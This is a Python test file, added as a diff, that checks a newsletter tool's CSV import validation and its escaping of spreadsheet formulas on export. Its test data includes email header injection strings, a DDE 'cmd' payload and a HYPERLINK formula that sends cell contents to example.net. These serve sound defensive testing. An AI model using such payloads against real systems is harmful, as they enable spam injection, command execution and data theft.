@@ -1,0 +1,251 @@
+"""Bad CSV input at import, and spreadsheet formulas at export, on SQLite and
+PostgreSQL (the ``session`` fixture runs both).
+
+What a comms officer sees: every row that cannot be used is named by its line
+and column with what to do; the good rows around it are imported; nothing
+that would later fail at send time gets in.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from sqlalchemy import delete, select
+
+from newsletter import subscriber_csv
+from newsletter import subscribers as subs
+from newsletter.store.models import Membership, Subscriber
+from tests.test_subscribers import monthly, write_csv  # noqa: F401 (fixture)
+
+
+def stored(session) -> dict[str, str]:
+    return dict(session.execute(select(Subscriber.email, Subscriber.name)).all())
+
+
+def problems_by_line(report) -> dict[int, str]:
+    return {problem.line: problem.message for problem in report.problems}
+
+
+# -- names that would break a header -----------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell, shown",
+    [
+        ('"Ann\r\nBcc: all@example.net"', "U+000D CARRIAGE RETURN"),
+        ('"Ann\nBcc: all@example.net"', "U+000A LINE FEED"),
+        ('"Ann\rBcc: all@example.net"', "U+000D CARRIAGE RETURN"),
+        ("Ann\u2028Bcc: all@example.net", "U+2028 LINE SEPARATOR"),
+        ("Ann\u2029Bcc: all@example.net", "U+2029 PARAGRAPH SEPARATOR"),
+        ("Ann\x85Bcc: all@example.net", "U+0085 NEXT LINE"),
+        ("Ann\x0bBcc: all@example.net", "U+000B LINE TABULATION"),
+        ("Ann\x0cBcc: all@example.net", "U+000C FORM FEED"),
+        ("=?utf-8?q?Ann=0D=0ABcc:_all@example.net?=", "encoded word"),
+        ("=?utf-8?b?QW5uDQpCY2M6IGFsbEBleGFtcGxlLm5ldA==?=", "encoded word"),
+        ("Ann%0d%0aBcc: all@example.net", "encoded line break"),
+    ],
+)
+def test_a_name_with_a_line_break_is_rejected_with_its_line(session, monthly, tmp_path, cell, shown):
+    path = write_csv(tmp_path, f"email,name\nbefore@example.com,Before\nann@example.com,{cell}\nafter@example.com,After\n")
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert (report.added, report.rejected) == (2, 1)
+    [problem] = report.problems
+    assert (problem.where, problem.line, problem.column) == (f"{path}:3", 3, "name")
+    assert shown in problem.message and "one line" in problem.fix
+    assert stored(session) == {"before@example.com": "Before", "after@example.com": "After"}
+
+
+def test_import_and_sign_up_refuse_the_same_names(session, monthly, tmp_path):
+    """One check for both ways in: what sign-up refuses, import refuses, and the reverse."""
+    from newsletter.errors import InputError
+    from newsletter.signup import checked_name
+
+    names = ["Ann\tLee", "Ann\u2028Lee", "=?utf-8?q?Ann?=", "Ann Lee", "Zoë O'Brien", "x" * 201]
+    path = write_csv(tmp_path, "email,name\n" + "".join(f"p{n}@example.com,{name}\n" for n, name in enumerate(names)))
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    rejected_by_import = {line - 2 for line in problems_by_line(report)}
+    rejected_by_signup = set()
+    for n, name in enumerate(names):
+        try:
+            checked_name(name)
+        except InputError:
+            rejected_by_signup.add(n)
+    assert rejected_by_import == rejected_by_signup == {0, 1, 2, 5}
+
+
+def test_the_cli_add_refuses_a_name_with_a_line_break(session, monthly):
+    from newsletter.errors import InputError
+
+    with pytest.raises(InputError, match="LINE SEPARATOR"):
+        subs.add_subscriber(session, "ann@example.com", "Ann\u2028Bcc: all@example.net", ["monthly"])
+    assert stored(session) == {}
+
+
+# -- NUL bytes ---------------------------------------------------------------
+
+
+def test_a_nul_byte_rejects_its_row_by_line_and_column_and_keeps_the_others(session, monthly, tmp_path):
+    path = tmp_path / "people.csv"
+    path.write_bytes(
+        b"email,name,team\n"
+        b"one@example.com,One,Ops\n"
+        b"two@example.com,T\x00wo,Ops\n"
+        b"three@example.com,Three,O\x00ps\n"
+        b"fo\x00ur@example.com,Four,Ops\n"
+        b"five@example.com,Five,Ops\n"
+    )
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+    session.flush()
+
+    assert (report.added, report.rejected) == (2, 3)
+    assert [(p.line, p.column) for p in report.problems] == [(3, "name"), (4, "team"), (5, "email")]
+    assert all("NUL" in p.message for p in report.problems)
+    assert stored(session) == {"one@example.com": "One", "five@example.com": "Five"}
+
+
+def test_a_utf16_file_without_a_byte_order_mark_is_named_as_such(session, monthly, tmp_path):
+    from newsletter.errors import InputError
+
+    path = tmp_path / "people.csv"
+    path.write_bytes("email,name\none@example.com,One\n".encode("utf-16-le"))
+
+    with pytest.raises(InputError, match="NUL") as raised:
+        subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert raised.value.problems[0].where == f"{path}:1" and "CSV UTF-8" in raised.value.problems[0].fix
+    assert stored(session) == {}
+
+
+# -- quotes left open --------------------------------------------------------
+
+
+def good_rows(first: int, count: int) -> str:
+    return "".join(f"reader{n}@example.com,Reader {n}\n" for n in range(first, first + count))
+
+
+def test_a_quote_never_closed_is_named_and_the_rows_after_it_are_kept(session, monthly, tmp_path):
+    path = write_csv(tmp_path, "email,name\n" + good_rows(0, 3) + 'open@example.com,"Smith, Jo\n' + good_rows(3, 1000))
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert (report.added, report.rejected) == (1003, 1)
+    [problem] = report.problems
+    assert (problem.line, problem.column) == (5, "name")
+    assert 'quote (")' in problem.message and "never closed" in problem.message
+    assert "two" in problem.fix
+    assert "open@example.com" not in stored(session)
+    assert stored(session)["reader1002@example.com"] == "Reader 1002"
+
+
+def test_a_quote_opened_on_the_last_line_is_named_too(session, monthly, tmp_path):
+    path = write_csv(tmp_path, "email,name\n" + good_rows(0, 2) + 'last@example.com,"Jo\n')
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert [(p.line, p.column) for p in report.problems] == [(4, "name")]
+    assert "never closed" in report.problems[0].message
+    assert report.added == 2
+
+
+def test_a_quote_closed_lines_later_is_named_with_both_lines(session, monthly, tmp_path):
+    text = ("email,name,team\n" + "a@example.com,A,Ops\n" + 'b@example.com,B,"Ops\n'
+            + "c@example.com,C,Ops\n" + 'd@example.com,D,"Finance"\n' + "e@example.com,E,Ops\n")
+    path = write_csv(tmp_path, text)
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert problems_by_line(report).keys() == {3}
+    assert "closed only on line 5" in report.problems[0].message and report.problems[0].column == "team"
+    assert sorted(stored(session)) == ["a@example.com", "c@example.com", "d@example.com", "e@example.com"]
+    assert subs.get_subscriber(session, "d@example.com").attributes == {"team": "Finance"}
+
+
+def test_a_quoted_value_over_several_lines_is_still_one_value(session, monthly, tmp_path):
+    path = write_csv(tmp_path, 'email,name,address\na@example.com,A,"1 Example Street\nExample Town"\nb@example.com,B,\n')
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert (report.added, report.rejected) == (2, 0)
+    assert subs.get_subscriber(session, "a@example.com").attributes == {"address": "1 Example Street\nExample Town"}
+
+
+def test_a_quote_open_past_the_csv_field_limit_is_named_too(session, monthly, tmp_path):
+    path = write_csv(tmp_path, 'email,name\nopen@example.com,"Jo\n' + "x" * 200_000 + "\n" + good_rows(0, 2))
+
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+
+    assert report.problems[0].line == 2 and 'quote (")' in report.problems[0].message
+    assert {"reader0@example.com", "reader1@example.com"} <= set(stored(session))
+
+
+# -- the problems file -------------------------------------------------------
+
+
+def test_write_problems_lists_every_problem_with_line_and_column(session, monthly, tmp_path):
+    rows = "".join(f"bad{n}.example.com,Reader {n}\n" for n in range(120))
+    path = write_csv(tmp_path, "email,name\n" + rows + "=cmd@example.com,=HYPERLINK(\"http://example.net\")\n"
+                     + "=cmd@example.com,Again\n")
+    report = subscriber_csv.import_csv(session, path, ["monthly"])
+    out = tmp_path / "problems.csv"
+
+    assert subscriber_csv.write_problems(report, out) == 121
+
+    written = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert [row["line"] for row in written] == [str(n) for n in range(2, 122)] + ["123"]
+    assert {row["column"] for row in written} == {"email"}
+    assert all(row["severity"] == "error" and row["problem"] and row["what to do"] for row in written)
+    # A reason quotes what was in the file: it is made safe for a spreadsheet too.
+    assert written[-1]["problem"].startswith("'=cmd@example.com is also on line 122")
+
+
+# -- spreadsheet formulas at export --------------------------------------------
+
+FORMULAS = {
+    "=cmd@example.com": '=HYPERLINK("http://example.net/?x="&A1,"Click")',
+    "+plus@example.com": "+cmd|' /C calc'!A0",
+    "-minus@example.com": "-2+3",
+    "at@example.com": "@SUM(1+1)",
+    "quoted@example.com": "'=already quoted",
+    "plain@example.com": "Plain Name, with 'quotes'",
+}
+
+
+def test_export_neutralises_formulas_and_imports_back_the_same(session, monthly, tmp_path):
+    for email, name in FORMULAS.items():
+        subs.add_subscriber(session, email, name, ["monthly"], {"note": "\t=1+1" if email == "at@example.com" else "ok"})
+    exported = tmp_path / "export.csv"
+
+    assert subscriber_csv.export_csv(session, exported) == len(FORMULAS)
+
+    cells = [cell for row in csv.reader(exported.open(encoding="utf-8", newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_email = {row["email"]: row for row in csv.DictReader(exported.open(encoding="utf-8", newline=""))}
+    assert by_email["'=cmd@example.com"]["name"] == "'" + FORMULAS["=cmd@example.com"]
+    assert by_email["'+plus@example.com"]["name"] == "'+cmd|' /C calc'!A0"
+    assert by_email["at@example.com"]["note"] == "'\t=1+1"
+    assert by_email["quoted@example.com"]["name"] == "''=already quoted"
+    assert by_email["plain@example.com"]["name"] == FORMULAS["plain@example.com"]
+
+    session.execute(delete(Membership))  # an empty install, the file imported there
+    session.execute(delete(Subscriber))
+    report = subscriber_csv.import_csv(session, exported, [])
+
+    assert (report.added, report.rejected) == (len(FORMULAS), 0)
+    assert stored(session) == FORMULAS
+    assert subs.get_subscriber(session, "at@example.com").attributes == {"note": "\t=1+1"}
+
+
+def test_an_export_to_a_stream_is_neutralised_too(session, monthly):
+    subs.add_subscriber(session, "one@example.com", "@SUM(A1:A9)", ["monthly"], {"=team": "=1"})
+    out = io.StringIO()
+
+    subscriber_csv.export_csv(session, out)
+
+    assert out.getvalue().splitlines() == ["email,name,lists,'=team", "one@example.com,'@SUM(A1:A9),monthly,'=1"]
